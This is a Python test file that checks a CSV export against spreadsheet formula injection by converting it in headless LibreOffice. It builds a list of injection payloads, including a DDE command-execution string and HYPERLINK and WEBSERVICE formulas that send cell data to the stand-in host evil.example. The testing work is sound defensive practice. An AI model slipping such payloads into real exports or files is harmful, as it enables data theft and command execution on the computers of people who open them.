"""What LibreOffice makes of an export with hostile texts: it opens the file, and finds no formula."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import polars as pl
import pytest

from fourfold.cli.output import Format, write_frame
from fourfold.connectors.files.safe_cell import safe_table

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "＋", "\u00a0=", ";=", "|="]
FORMULAS = ["1+1", "cmd|'/C calc'!A0", "HYPERLINK(\"http://evil.example/?x=\"&A1)", "WEBSERVICE(\"http://evil.example\")"]
PAYLOADS = [start + formula for start in STARTS for formula in FORMULAS]


@pytest.mark.slow
def test_c07_a_spreadsheet_finds_no_formula_in_an_export(tmp_path: Path) -> None:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is not on this machine")
    frame = pl.DataFrame({"reason": PAYLOADS, "value": [-1.5] * len(PAYLOADS)})
    write_frame(frame, Format.CSV, tmp_path / "export.csv")
    unsafe = tmp_path / "unsafe.csv"
    unsafe.write_text("reason,value\n=1+1,1\n")
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    for file in (tmp_path / "export.csv", unsafe):
        command = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(file)]
        subprocess.run(command, check=True, capture_output=True, timeout=300)
    assert "table:formula" in (tmp_path / "unsafe.fods").read_text()  # so it would have been found
    opened = (tmp_path / "export.fods").read_text()
    assert "table:formula" not in opened
    assert len(re.findall(r'office:value="-1\.5"', opened)) >= 1  # numbers stay numbers
    assert safe_table(frame).height == len(PAYLOADS) >= 40
